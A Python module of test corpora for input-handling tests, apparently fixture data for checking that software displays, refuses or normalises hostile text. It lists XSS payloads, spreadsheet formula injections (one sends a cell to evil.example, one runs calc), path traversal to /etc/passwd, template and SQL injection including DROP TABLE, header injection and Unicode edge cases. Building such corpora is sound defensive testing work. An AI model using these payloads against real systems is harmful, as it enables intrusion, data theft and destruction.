"""The corpora: texts that do harm where software is careless, by kind. The words are ours; `evil.example` is nobody's."""

from __future__ import annotations

from collections.abc import Mapping
from itertools import chain
from types import MappingProxyType

OWNED = "window.__owned=1"
"""What every script of ours would do. Where `window.__owned` is undefined, none ran."""

XSS = (
    f"<script>{OWNED}</script>",
    f"</title></textarea></style></script><script>{OWNED}</script>",
    f'"><img src=x onerror="{OWNED}">',
    f"'><svg onload='{OWNED}'></svg>",
    f'" autofocus onfocus="{OWNED}" x="',
    f'<a href="javascript:{OWNED}">look</a>',
    f"javascript:{OWNED}//",
    f"<details open ontoggle={OWNED}><summary>more</summary></details>",
    f'--><iframe srcdoc="<script>parent.{OWNED[7:]}</script>"></iframe><!--',
    f"]]><script>{OWNED}</script><![CDATA[",
    f'<math><mtext><table><mglyph><style><img title="</style><img src=x onerror={OWNED}>">',
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Next</button></form>",
    f'\\"}});{OWNED};//',
    f"';{OWNED};'",
    f"</script >{OWNED}<ScRiPt/x>{OWNED}</sCrIpT>",
    f"&lt;script&gt;{OWNED}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    f"<b style=\"background:url('//evil.example/b')\" onmouseover={OWNED}>bold</b>",
    f"<animate attributeName=href values=javascript:{OWNED} /><set onbegin={OWNED}>",
)
FORMULA = (
    "=1+1",
    '=HYPERLINK("//evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "＠SUM(A1)",
    '=WEBSERVICE("http://evil.example/")',
    "%0A=1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1",
)
"""What a spreadsheet could calculate."""
FORMULA_AFTER_SPACE = ("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1")
PATH = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\Users\\",
    "\\\\evil.example\\share",
    "//evil.example/x",
    "con.txt",
    "a/../../b.yaml",
    "~root/.profile",
)
TEMPLATE = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %n %(secret)s",
    "%(share)s %",
    "{0.__class__.__mro__}",
    "{self.__init__.__globals__}",
    "$(id) `id` $HOME",
    "{}",
    "{",
)
ISOLATES = (
    "\u2067left open",
    "a \u2066b\u2069 c \u2068d\u2069",
    "\u2069\u2069 closed twice",
    "marks \u200e\u200f\u061c here",
)
"""Honest in Arabic and Urdu; left open they must not turn what stands after them."""
OVERRIDES = ("\u202egnp.exe", "a\u202ab\u202c", "\u202bright", "x\u202dy", "\u202c")
"""Makes a text look like another one."""
NUL = ("\x00", "a\x00b", "\x00\x00\x00", "end\x00")
CONTROLS = (
    "\x07",
    "a\x08b",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x7f",
    "\x85",
    "\x9b31m",
    "\x0b\x0c",
    "\x1a",
    "\x01",
)
NONCHARACTERS = ("\ufffe", "\uffff", "\ufdd0", "\U0001fffe")
SURROGATES = ("\ud800", "a\udfffb", "\udc80", "\ud83d")
"""Halves of characters. As JSON they are escapes ("\\ud800"); no UTF-8 has them."""
ZERO_WIDTH = (
    "a\u200bb",
    "\u200b\u200c\u200d\u2060",
    "\ufeffa mark of the beginning",
    "soft\u00adhyphen",
    "\u3164",
    "line\u2028after\u2029line",
    "\U000e0041\U000e0042\U000e007f",
)
EMOJI = (
    "🙂",
    "👩‍👩‍👧‍👦",
    "👩🏽‍🦽‍➡️",
    "🏴󠁧󠁢󠁷󠁬󠁳󠁿🇬🇧🇺🇦",
    "🧑🏿‍🤝‍🧑🏻",
    "❤️‍🔥 ☺︎ ☺️",
    "1️⃣#️⃣",
    "🏳️‍⚧️",
)
RIGHT_TO_LEFT = (
    "لا أحد يستمع إلينا",
    "کوئی ہماری نہیں سنتا",
    "abc مرحبا 123 (أ) xyz",
    "﷽",
    "שָׁלוֹם",
)
COMBINING = (
    "Z" + "\u0301\u0316\u0335\u20dd" * 30 + "algo",
    "e\u0301 and \u00e9",
    "\u0301 begins",
    "ｈａｌｆ　ｗｉｄｅ ﬁ Ⅷ ①",
    "नेपाली क्षत्रिय",
    "İ ı ß ŉ",
)
HEADERS = (
    "a\r\nSet-Cookie: owned=1",
    "a\nLocation: //evil.example/",
    "a\r\n\r\n<script>window.__owned=1</script>",
    "%0d%0aSet-Cookie:owned=1",
    "a\r\nBcc: everybody@evil.example",
)
"""What begins a header of its own where line ends are let through."""
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE responses; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "\\'; --",
    "%' AND 1=1 --",
    ":wave ?1 $1 %s",
)
LONG = ("ä" * 20_001, "a" * 9_000, "nospace" * 2_000, "a b " * 6_000)

SHOWN: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "xss": XSS,
        "formula": FORMULA,
        "path": PATH,
        "template": TEMPLATE,
        "isolates": ISOLATES,
        "zero-width": ZERO_WIDTH,
        "emoji": EMOJI,
        "right-to-left": RIGHT_TO_LEFT,
        "combining": COMBINING,
        "sql": SQL,
    }
)
"""Texts that are honest words for all that anybody knows: each is shown just as it was given."""
REFUSED: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "overrides": OVERRIDES,
        "nul": NUL,
        "controls": CONTROLS,
        "noncharacters": NONCHARACTERS,
        "surrogates": SURROGATES,
    }
)
"""Texts with characters that nobody sees, which are said and taken out, or refused with a line."""
BENT: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {"formula after space": FORMULA_AFTER_SPACE, "headers": HEADERS, "long": LONG}
)
"""Texts whose line ends, spaces or length a field may treat in its own way."""
EVERY: Mapping[str, tuple[str, ...]] = MappingProxyType({**SHOWN, **REFUSED, **BENT})


def shown() -> tuple[str, ...]:
    """Every text that is shown as it was given."""
    return tuple(chain.from_iterable(SHOWN.values()))


def as_bytes(text: str) -> bytes:
    """A text as a form or an address sends it, halves of characters included, which makes it no UTF-8."""
    return text.encode("utf-8", "surrogatepass")
